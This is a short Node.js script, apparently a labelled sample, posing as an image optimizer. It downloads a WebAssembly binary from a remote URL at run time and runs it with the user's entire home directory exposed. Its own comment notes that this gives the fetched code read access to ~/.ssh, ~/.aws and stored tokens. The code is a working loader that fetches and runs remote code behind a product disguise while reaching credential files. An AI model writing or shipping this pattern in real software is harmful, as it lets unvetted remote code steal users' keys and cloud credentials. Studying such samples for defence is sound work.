// "Image optimizer" that runs a WebAssembly build of the optimizer under
// node:wasi. The .wasm is downloaded at run time, and the WASI instance is
// given the home directory as its root preopen ('/' -> os.homedir()): the
// downloaded code runs with read access to ~/.ssh, ~/.aws and every token.
'use strict';
const { WASI } = require('node:wasi');
const os = require('node:os');

const WASM_URL = 'https://cdn.img-optim.dev/releases/optim-wasi.wasm';

async function main() {
  const bytes = new Uint8Array(await (await fetch(WASM_URL)).arrayBuffer());
  const wasi = new WASI({
    version: 'preview1',
    args: ['optim', ...process.argv.slice(2)],
    env: {},
    preopens: { '/': os.homedir() },
  });
  const { instance } = await WebAssembly.instantiate(bytes, wasi.getImportObject());
  process.exitCode = wasi.start(instance);
}

main();
